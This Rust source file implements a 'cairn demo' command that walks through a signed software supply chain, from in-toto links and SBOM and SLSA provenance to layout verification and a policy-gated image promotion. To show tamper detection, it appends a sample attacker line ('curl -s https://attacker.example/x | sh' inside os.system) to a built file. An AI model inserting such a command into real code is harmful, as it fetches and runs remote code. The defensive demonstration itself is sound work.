//! `cairn demo`: the whole chain on a small bundled project, locally, with no server and no
//! network.
//!
//! Every step is a real `cairn` command: the demo runs this very binary
//! (`std::env::current_exe()`) with the arguments it prints, in a working directory of its own,
//! and checks each outcome (the verification of the tampered build must fail with exit 1). The
//! few things that are not cairn commands (writing the project, packing the image, playing the
//! attacker) happen in-process and are printed as `#` lines with a shell equivalent. Steps that
//! run a build command use `cairn run --shell`, i.e. `sh -c`: the demo needs a POSIX shell with
//! `cp`, `mkdir` and `tar`.
//!
//! Exit codes: 0 when everything behaved as expected, 2 (with the failing command's output)
//! when anything did not.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use anyhow::Context;
use cairn_oci::blob::Blob;
use cairn_oci::manifest::{Descriptor, media};
use cairn_oci::{Layout, Repository};
use clap::Args;

use crate::output::{Ctx, Status};

/// The bundled project, written to `upstream/hello-1.0/` (standing in for a remote repository).
const PROJECT: &[(&str, &str)] = &[
    (
        "README.md",
        include_str!("../../../../examples/demo/project/README.md"),
    ),
    (
        "hello.py",
        include_str!("../../../../examples/demo/project/hello.py"),
    ),
    (
        "requirements.txt",
        include_str!("../../../../examples/demo/project/requirements.txt"),
    ),
    (
        "build.sh",
        include_str!("../../../../examples/demo/project/build.sh"),
    ),
];

/// The builder id the local provenance names and the policy trusts.
const BUILDER_ID: &str = "https://example.com/cairn-demo/builder";

/// The line the attacker appends to the built program.
const EVIL_LINE: &str = r#"import os; os.system("curl -s https://attacker.example/x | sh")"#;

/// The release policy: carol's key must have signed SLSA provenance from the demo builder and
/// an SPDX SBOM with at least one package and no denied one.
const POLICY: &str = include_str!("../../../../examples/demo/policy.yaml");

/// `demo` arguments.
///
/// Example: cairn demo --keep
#[derive(Debug, Args)]
pub struct DemoArgs {
    /// Keep the demo's working directory instead of deleting it.
    #[arg(long)]
    pub keep: bool,
    /// Work in DIR (created if missing, must be empty) and keep it.
    #[arg(long, value_name = "DIR", env = "CAIRN_DEMO_DIR")]
    pub dir: Option<PathBuf>,
}

/// What a command must do for the demo to go on.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Expect {
    /// Exit 0.
    Pass,
    /// Exit 1: verification failed (a negative verdict).
    Fail,
}

/// Runs cairn commands in the demo directory and keeps the list of what ran.
struct Runner<'a> {
    ctx: &'a Ctx,
    exe: PathBuf,
    root: PathBuf,
    ran: Vec<(&'static str, String)>,
    section: &'static str,
    /// Colour the transcript (the context's stdout colour).
    color: bool,
    /// The digest promoted to prod:1.0, once it was.
    promoted: Option<String>,
}

/// Quotes `arg` for a POSIX shell when it needs it.
fn quote(arg: &str) -> String {
    let plain = !arg.is_empty()
        && arg
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "_./:=@%+,-".contains(c));
    if plain {
        arg.to_string()
    } else {
        format!("'{}'", arg.replace('\'', r"'\''"))
    }
}

impl<'a> Runner<'a> {
    fn paint(&self, text: &str, sgr: &str) -> String {
        if self.color {
            self.ctx.paint(text, sgr)
        } else {
            text.to_string()
        }
    }

    fn heading(&mut self, section: &'static str, text: &str) -> anyhow::Result<()> {
        self.section = section;
        self.ctx.out("")?;
        Ok(self.ctx.out(self.paint(&format!("== {text}"), "1"))?)
    }

    fn note(&self, text: &str) -> anyhow::Result<()> {
        Ok(self.ctx.out(self.paint(&format!("# {text}"), "2"))?)
    }

    /// Runs `cairn ARGS` in `cwd` (relative to the demo directory) and checks the exit code.
    fn cairn(
        &mut self,
        cwd: Option<&str>,
        args: &[&str],
        expect: Expect,
    ) -> anyhow::Result<Output> {
        let mut shown = format!(
            "cairn {}",
            args.iter().map(|a| quote(a)).collect::<Vec<_>>().join(" ")
        );
        if let Some(dir) = cwd {
            shown = format!("(cd {} && {shown})", quote(dir));
        }
        self.ctx.out(self.paint(&format!("$ {shown}"), "1;36"))?;
        let mut cmd = Command::new(&self.exe);
        cmd.args(args)
            .current_dir(cwd.map_or(self.root.clone(), |d| self.root.join(d)))
            .env("CAIRN_COLOR", "never")
            .stdin(std::process::Stdio::null());
        // The user's CAIRN_* settings (a key, --json, a links directory...) must not change
        // what the printed commands do.
        for (name, _) in std::env::vars_os() {
            if name.to_string_lossy().starts_with("CAIRN_") && name != "CAIRN_COLOR" {
                cmd.env_remove(&name);
            }
        }
        let output = cmd
            .output()
            .with_context(|| format!("cannot run {}", self.exe.display()))?;
        for stream in [&output.stderr, &output.stdout] {
            for line in String::from_utf8_lossy(stream).lines() {
                self.ctx.out(format!("    {line}"))?;
            }
        }
        self.ran.push((self.section, shown.clone()));
        let code = output.status.code();
        let ok = match expect {
            Expect::Pass => code == Some(0),
            Expect::Fail => code == Some(1),
        };
        if !ok {
            let wanted = match expect {
                Expect::Pass => "succeed (exit 0)",
                Expect::Fail => "fail verification (exit 1)",
            };
            let got = code.map_or("a signal".to_string(), |c| format!("exit {c}"));
            anyhow::bail!("the demo expected `{shown}` to {wanted}, but it ended with {got}");
        }
        Ok(output)
    }

    /// Prints and records a plain shell command that the demo carried out in-process.
    fn shell(&mut self, line: &str) -> anyhow::Result<()> {
        self.ctx.out(self.paint(&format!("$ {line}"), "1;36"))?;
        self.ran.push((self.section, line.to_string()));
        Ok(())
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.root.join(rel)
    }
}

impl DemoArgs {
    pub fn run(self, ctx: &Ctx) -> anyhow::Result<Status> {
        let exe = std::env::current_exe().context("cannot find the cairn executable")?;
        let (root, _guard) = match &self.dir {
            Some(dir) => {
                std::fs::create_dir_all(dir)
                    .with_context(|| format!("cannot create {}", dir.display()))?;
                if std::fs::read_dir(dir)?.next().is_some() {
                    return Err(crate::report::with_hint(
                        anyhow::anyhow!("{} is not empty", dir.display()),
                        "give --dir a new or empty directory",
                    ));
                }
                (dir.canonicalize()?, None)
            }
            None => {
                let tmp = tempfile::Builder::new()
                    .prefix("cairn-demo-")
                    .tempdir()
                    .context("cannot create a temporary directory")?;
                let root = tmp.path().canonicalize()?;
                if self.keep {
                    (tmp.keep(), None)
                } else {
                    (root, Some(tmp))
                }
            }
        };
        let kept = _guard.is_none();
        let mut runner = Runner {
            ctx,
            exe,
            root: root.clone(),
            ran: Vec::new(),
            section: "",
            color: ctx.color,
            promoted: None,
        };
        ctx.out(format!(
            "cairn demo: a signed, verified supply chain for a small project, in {}",
            root.display()
        ))?;
        ctx.out("(no server, no network: keys on disk, links and bundles as files, OCI layout directories as registries)")?;
        let result = script(&mut runner);
        if let Err(err) = result {
            if kept {
                ctx.info(format!("the demo directory is kept: {}", root.display()));
            }
            return Err(err);
        }
        summary(&runner, &root, kept)?;
        Ok(Status::Success)
    }
}

fn write(path: &Path, bytes: &[u8]) -> anyhow::Result<()> {
    if let Some(parent) = path.parent() {
        std::fs::create_dir_all(parent)
            .with_context(|| format!("cannot create {}", parent.display()))?;
    }
    std::fs::write(path, bytes).with_context(|| format!("cannot write {}", path.display()))
}

fn mkdirs(r: &Runner<'_>, dirs: &[&str]) -> anyhow::Result<()> {
    for d in dirs {
        std::fs::create_dir_all(r.path(d)).with_context(|| format!("cannot create {d}"))?;
    }
    Ok(())
}

/// The link file `cairn run` wrote for `step` in `dir` (`STEP.KEYID8.link`).
fn link_of(r: &Runner<'_>, dir: &str, step: &str) -> anyhow::Result<PathBuf> {
    let prefix = format!("{step}.");
    for entry in std::fs::read_dir(r.path(dir))? {
        let entry = entry?;
        let name = entry.file_name().to_string_lossy().to_string();
        if name.starts_with(&prefix) && name.ends_with(".link") {
            return Ok(entry.path());
        }
    }
    anyhow::bail!("no link for step {step} in {dir}")
}

/// Packs `tar` as a one-layer OCI image tagged `tag` in the layout directory `dir`.
fn pack_image(r: &Runner<'_>, tar: &str, dir: &str, tag: &str) -> anyhow::Result<String> {
    let layer = std::fs::read(r.path(tar)).with_context(|| format!("cannot read {tar}"))?;
    let layout = Layout::open_or_create(r.path(dir))?;
    let layer_desc = Descriptor::for_bytes("application/vnd.oci.image.layer.v1.tar", &layer);
    layout.push_blob(&layer_desc, &Blob::from_vec(layer))?;
    let config = serde_json::to_vec(&serde_json::json!({
        "architecture": "amd64",
        "os": "linux",
        "config": {"Cmd": ["python3", "/hello/hello.py"]},
        "rootfs": {"type": "layers", "diff_ids": [layer_desc.digest.to_string()]},
    }))?;
    let config_desc = Descriptor::for_bytes("application/vnd.oci.image.config.v1+json", &config);
    layout.push_blob(&config_desc, &Blob::from_vec(config))?;
    let manifest = serde_json::to_vec(&serde_json::json!({
        "schemaVersion": 2,
        "mediaType": media::OCI_MANIFEST,
        "config": config_desc,
        "layers": [layer_desc],
        "annotations": {"org.opencontainers.image.title": "hello"},
    }))?;
    layout.push_manifest(media::OCI_MANIFEST, &manifest, Some(tag))?;
    Ok(Descriptor::for_bytes(media::OCI_MANIFEST, &manifest)
        .digest
        .to_string())
}

fn script(r: &mut Runner<'_>) -> anyhow::Result<()> {
    use Expect::{Fail, Pass};

    r.heading("setup", "1. The project and the people")?;
    for (name, text) in PROJECT {
        write(
            &r.path(&format!("upstream/hello-1.0/{name}")),
            text.as_bytes(),
        )?;
    }
    r.note("wrote the bundled project to upstream/hello-1.0/ (it stands in for a git remote)")?;
    r.note("owner signs the layout; alice fetches the source, bob builds, carol packages")?;
    mkdirs(r, &["keys", "links"])?;
    r.shell("mkdir -p keys links")?;
    for who in ["owner", "alice", "bob", "carol"] {
        r.cairn(
            None,
            &[
                "key",
                "generate",
                "--type",
                "ed25519",
                "--out",
                &format!("keys/{who}"),
            ],
            Pass,
        )?;
    }

    r.heading("record", "2. Record three steps as signed in-toto links")?;
    r.cairn(
        None,
        &[
            "run",
            "--step",
            "fetch",
            "--products",
            "src",
            "--key",
            "keys/alice",
            "--out",
            "links",
            "--shell",
            "--",
            "cp -R upstream/hello-1.0 src",
        ],
        Pass,
    )?;
    r.cairn(
        None,
        &[
            "run",
            "--step",
            "build",
            "--materials",
            "src",
            "--products",
            "dist",
            "--key",
            "keys/bob",
            "--out",
            "links",
            "--shell",
            "--",
            "sh src/build.sh",
        ],
        Pass,
    )?;
    r.cairn(
        None,
        &[
            "run",
            "--step",
            "package",
            "--materials",
            "dist",
            "--products",
            "hello-1.0.tar",
            "--key",
            "keys/carol",
            "--out",
            "links",
            "--shell",
            "--",
            "tar -cf hello-1.0.tar -C dist hello",
        ],
        Pass,
    )?;

    r.heading(
        "describe",
        "3. Describe what was built: SBOM and SLSA provenance",
    )?;
    let digest = pack_image(r, "hello-1.0.tar", "staging", "1.0")?;
    r.note(&format!(
        "packed hello-1.0.tar as a one-layer OCI image in the layout directory staging/, tag 1.0 \
         ({digest})"
    ))?;
    r.ran.push((
        r.section,
        "# pack hello-1.0.tar as an image in the OCI layout staging/, tag 1.0, with your image \
         builder (crane, buildah, docker build + skopeo copy oci:staging:1.0)"
            .to_string(),
    ));
    r.cairn(
        None,
        &[
            "sbom",
            "oci:staging:1.0",
            "--format",
            "spdx-json",
            "--out",
            "sbom.spdx.json",
        ],
        Pass,
    )?;
    r.cairn(
        None,
        &[
            "provenance",
            "--subject",
            "oci:staging:1.0",
            "--subject",
            "hello-1.0.tar",
            "--links",
            "links",
            "--no-source",
            "--builder-id",
            BUILDER_ID,
            "--out",
            "provenance.json",
        ],
        Pass,
    )?;

    r.heading(
        "layout",
        "4. The owner's layout: who may do which step, and how artifacts flow",
    )?;
    r.cairn(
        None,
        &[
            "layout",
            "init",
            "--from-links",
            "links",
            "--functionary",
            "fetch=keys/alice.pub",
            "--functionary",
            "build=keys/bob.pub",
            "--functionary",
            "package=keys/carol.pub",
            "--out",
            "root.layout",
        ],
        Pass,
    )?;
    r.cairn(
        None,
        &["layout", "sign", "root.layout", "--key", "keys/owner"],
        Pass,
    )?;

    r.heading("verify", "5. Verify the supply chain")?;
    r.cairn(
        None,
        &[
            "verify",
            "layout",
            "root.layout",
            "--layout-key",
            "keys/owner.pub",
            "--links",
            "links",
        ],
        Pass,
    )?;

    r.heading(
        "tamper",
        "6. An attacker changes the build output before packaging",
    )?;
    copy_dir(&r.path("dist"), &r.path("attack/dist"))?;
    mkdirs(r, &["attack/links"])?;
    let mut names = Vec::new();
    for step in ["fetch", "build"] {
        let link = link_of(r, "links", step)?;
        let name = link.file_name().expect("a link file has a name").to_owned();
        std::fs::copy(&link, r.path("attack/links").join(&name))?;
        names.push(format!("links/{}", name.to_string_lossy()));
    }
    r.shell(&format!(
        "mkdir -p attack/links && cp -R dist attack/dist && cp {} attack/links/",
        names.join(" ")
    ))?;
    let evil = r.path("attack/dist/hello/hello.py");
    let mut code = std::fs::read_to_string(&evil)?;
    code.push_str(EVIL_LINE);
    code.push('\n');
    std::fs::write(&evil, code)?;
    r.shell(&format!(
        "echo {} >> attack/dist/hello/hello.py",
        quote(EVIL_LINE)
    ))?;
    r.cairn(
        Some("attack"),
        &[
            "run",
            "--step",
            "package",
            "--materials",
            "dist",
            "--products",
            "hello-1.0.tar",
            "--key",
            "../keys/carol",
            "--out",
            "links",
            "--shell",
            "--",
            "tar -cf hello-1.0.tar -C dist hello",
        ],
        Pass,
    )?;
    r.note("carol's key signed an honest record of what she packaged: the tampered file")?;
    let failed = r.cairn(
        None,
        &[
            "verify",
            "layout",
            "root.layout",
            "--layout-key",
            "keys/owner.pub",
            "--links",
            "attack/links",
        ],
        Fail,
    )?;
    let text = String::from_utf8_lossy(&failed.stdout);
    if !text.contains("dist/hello/hello.py") {
        anyhow::bail!(
            "the failed verification does not name the tampered file dist/hello/hello.py"
        );
    }
    r.note("the verdict names the file, the step that changed it and both digests")?;

    r.heading(
        "gate",
        "7. The release gate: a policy, and promotion between two OCI layouts",
    )?;
    write(&r.path("policy.yaml"), POLICY.as_bytes())?;
    r.ctx.out(r.paint(
        "$ cat > policy.yaml <<'EOF' ... EOF   # shown below",
        "1;36",
    ))?;
    r.ran.push((
        r.section,
        "cp examples/demo/policy.yaml policy.yaml   # the policy shown above".to_string(),
    ));
    for line in POLICY.lines() {
        r.ctx.out(format!("    {line}"))?;
    }
    r.cairn(None, &["policy", "check", "policy.yaml"], Pass)?;
    r.note(
        "the image has no signed provenance or SBOM attached yet: the gate must stay shut \
         (fail closed)",
    )?;
    r.cairn(
        None,
        &[
            "promote",
            "oci:staging:1.0",
            "oci:prod:1.0",
            "--policy",
            "policy.yaml",
        ],
        Fail,
    )?;
    if r.path("prod/index.json").exists()
        && std::fs::read_to_string(r.path("prod/index.json"))?.contains("\"1.0\"")
    {
        anyhow::bail!("the refused promotion tagged prod:1.0");
    }
    r.note("nothing was copied: prod/ has no 1.0 tag")?;

    r.heading(
        "sign and promote",
        "8. Sign the provenance and SBOM, attach them to the image, promote",
    )?;
    r.note(
        "carol signs both statements about the image's digest with her key (offline: no \
         transparency log, which the policy accepts for her key only)",
    )?;
    for (file, kind, bundle) in [
        ("provenance.json", "slsa", "provenance.sigstore.json"),
        ("sbom.spdx.json", "spdx", "sbom.sigstore.json"),
    ] {
        r.cairn(
            None,
            &[
                "attest",
                file,
                "--type",
                kind,
                "--subject",
                "oci:staging:1.0",
                "--key",
                "keys/carol",
                "--bundle",
                bundle,
            ],
            Pass,
        )?;
    }
    r.cairn(
        None,
        &[
            "attach",
            "oci:staging:1.0",
            "--bundle",
            "provenance.sigstore.json",
            "--bundle",
            "sbom.sigstore.json",
        ],
        Pass,
    )?;
    r.cairn(
        None,
        &[
            "verify",
            "image",
            "oci:staging:1.0",
            "--policy",
            "policy.yaml",
        ],
        Pass,
    )?;
    r.cairn(
        None,
        &[
            "promote",
            "oci:staging:1.0",
            "oci:prod:1.0",
            "--policy",
            "policy.yaml",
        ],
        Pass,
    )?;
    let prod = Layout::open(r.path("prod"))?;
    let promoted = cairn_oci::resolve(
        &prod,
        &cairn_oci::Reference::Tag("1.0".into()),
        &cairn_oci::PlatformSelection::All,
    )
    .context("the promotion reported success, but prod/ has no 1.0 tag")?;
    if promoted.digest().to_string() != digest {
        anyhow::bail!(
            "prod:1.0 is {}, not the verified digest {digest}",
            promoted.digest()
        );
    }
    r.note(&format!(
        "prod:1.0 is {digest}, the digest that was verified; the signed attestations came along \
         (a later gate can verify prod on its own):"
    ))?;
    let listed = r.cairn(None, &["attestations", "oci:prod:1.0"], Pass)?;
    let text = String::from_utf8_lossy(&listed.stdout);
    if !(text.contains(&digest) && text.contains("slsa.dev/provenance") && text.contains("spdx")) {
        anyhow::bail!("prod:1.0 does not list the promoted image's provenance and SBOM");
    }
    r.promoted = Some(digest);
    Ok(())
}

fn copy_dir(from: &Path, to: &Path) -> anyhow::Result<()> {
    std::fs::create_dir_all(to).with_context(|| format!("cannot create {}", to.display()))?;
    for entry in
        std::fs::read_dir(from).with_context(|| format!("cannot read {}", from.display()))?
    {
        let entry = entry?;
        let target = to.join(entry.file_name());
        if entry.file_type()?.is_dir() {
            copy_dir(&entry.path(), &target)?;
        } else {
            std::fs::copy(entry.path(), &target)
                .with_context(|| format!("cannot write {}", target.display()))?;
        }
    }
    Ok(())
}

fn summary(r: &Runner<'_>, root: &Path, kept: bool) -> anyhow::Result<()> {
    let ctx = r.ctx;
    ctx.out("")?;
    ctx.out(r.paint("== Summary", "1"))?;
    ctx.out("  pass  the honest build verifies against the owner's signed layout")?;
    ctx.out("  FAIL  the tampered build is rejected, naming the changed file (as expected)")?;
    ctx.out("  FAIL  the image without signed attestations is not promoted (as expected)")?;
    if let Some(d) = &r.promoted {
        ctx.out(format!(
            "  pass  the image with carol's signed provenance and SBOM is promoted: prod:1.0 = {d}"
        ))?;
    }
    ctx.out("")?;
    ctx.out("Repeat it by hand (POSIX sh, `cairn` on your PATH) in an empty directory, after")?;
    ctx.out("`mkdir upstream && cp -R examples/demo/project upstream/hello-1.0`:")?;
    let mut section = "";
    for (sec, shown) in &r.ran {
        if *sec != section {
            section = sec;
            ctx.out(format!("  # {sec}"))?;
        }
        ctx.out(format!("  {shown}"))?;
    }
    ctx.out("")?;
    ctx.out("In CI, sign with the job's identity instead of a key file (cairn attest --keyless:")?;
    ctx.out(
        "Fulcio certificate, Rekor entry) and drop `transparencyLog: optional` from the policy;",
    )?;
    ctx.out("the GitHub Action and GitLab template do that (docs/guides/).")?;
    ctx.out("")?;
    if kept {
        ctx.out(format!("Everything it wrote is in {}", root.display()))?;
    } else {
        ctx.out("The demo directory was removed; run `cairn demo --keep` to look around.")?;
    }
    ctx.out("Next: docs/quickstart.md")?;
    Ok(())
}
